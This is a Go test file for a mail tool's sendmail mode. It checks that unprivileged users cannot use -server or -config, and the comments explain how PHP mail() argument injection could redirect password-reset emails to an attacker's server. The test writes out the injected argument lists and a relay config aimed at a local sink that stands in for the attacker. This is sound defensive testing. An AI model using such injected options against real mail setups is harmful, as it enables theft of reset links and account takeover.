package main_test

import (
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
)

// asUser copies the inkan binary where uid may run it and returns a command
// that runs it as uid, with only env as its environment.
func asUser(t *testing.T, uid int, env []string, args ...string) *exec.Cmd {
	t.Helper()
	dir, err := os.MkdirTemp("", "inkan-uid")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	os.Chmod(dir, 0o755)
	bin := filepath.Join(dir, "inkan")
	src, err := os.Open(binPath)
	if err != nil {
		t.Fatal(err)
	}
	defer src.Close()
	dst, err := os.OpenFile(bin, os.O_CREATE|os.O_WRONLY, 0o755)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := io.Copy(dst, src); err != nil {
		t.Fatal(err)
	}
	dst.Close()
	cmd := exec.Command(bin, args...)
	cmd.Dir = dir
	cmd.Env = append([]string{"HOME=/nonexistent", "PATH=/usr/bin:/bin"}, env...)
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uint32(uid), Gid: uint32(uid)}}
	return cmd
}

// worldReadable writes a file that another user may read.
func worldReadable(t *testing.T, text string) string {
	t.Helper()
	dir, err := os.MkdirTemp("", "inkan-pub")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	os.Chmod(dir, 0o755)
	p := filepath.Join(dir, "file")
	if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
	os.Chmod(p, 0o644)
	return p
}

// PHP passes mail()'s fifth parameter to sendmail; with escapeshellcmd, an
// attacker who controls part of it adds options. -server and -config would
// send the message (password-reset links, Bcc recipients) to their server.
// Only root and inkan's own user may use them.
func TestSendmailServerAndConfigOnlyForServiceUser(t *testing.T) {
	needRoot(t)
	attacker := startSink(t)
	msg := "Subject: reset\n\nyour link: https://example.com/reset?t=secret\n"
	evil := worldReadable(t, "listen:\n  relay: \""+attacker.addr+"\"\n  submission: \"\"\n  smtps: \"\"\n  http: \"\"\n")
	for _, args := range [][]string{
		{"sendmail", "-t", "-i", "-f", "www@example.com", "-server", attacker.addr, "victim@example.net"},
		{"sendmail", "-f", "www@example.com", "-config", evil, "victim@example.net"},
	} {
		cmd := asUser(t, nobody, nil, args...)
		cmd.Stdin = strings.NewReader("To: victim@example.net\n" + msg)
		out, err := cmd.CombinedOutput()
		if ee, ok := err.(*exec.ExitError); !ok || ee.ExitCode() != 77 {
			t.Errorf("%s as uid %d: %v, want exit 77 (EX_NOPERM):\n%s", strings.Join(args, " "), nobody, err, out)
		}
		if flag := args[len(args)-3]; !strings.Contains(string(out), flag) || !strings.Contains(string(out), "root") {
			t.Errorf("the refusal does not name %s and who may use it:\n%s", flag, out)
		}
	}
	attacker.mu.Lock()
	got := len(attacker.msgs)
	attacker.mu.Unlock()
	if got != 0 {
		t.Fatalf("the attacker's server received %d messages", got)
	}

	// The operator's environment still chooses the server for everyone.
	cmd := asUser(t, nobody, []string{"INKAN_SENDMAIL_SERVER=" + attacker.addr}, "sendmail", "-f", "www@example.com", "ops@example.net")
	cmd.Stdin = strings.NewReader(msg)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("INKAN_SENDMAIL_SERVER as uid %d: %v\n%s", nobody, err, out)
	}
	// The owner of the data directory (the image's uid) may use -server.
	data, err := os.MkdirTemp("", "inkan-data")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(data) })
	os.Chown(data, nobody, nobody)
	cmd = asUser(t, nobody, []string{"INKAN_DATA_DIR=" + data}, "sendmail", "-server", attacker.addr, "-f", "svc@example.com", "ops@example.net")
	cmd.Stdin = strings.NewReader(msg)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("-server as the data directory's owner: %v\n%s", err, out)
	}
	// Root may.
	cmd = exec.Command(binPath, "sendmail", "-server", attacker.addr, "-f", "root@example.com", "ops@example.net")
	cmd.Stdin = strings.NewReader(msg)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("-server as root: %v\n%s", err, out)
	}
	attacker.wait(t, 3)
}
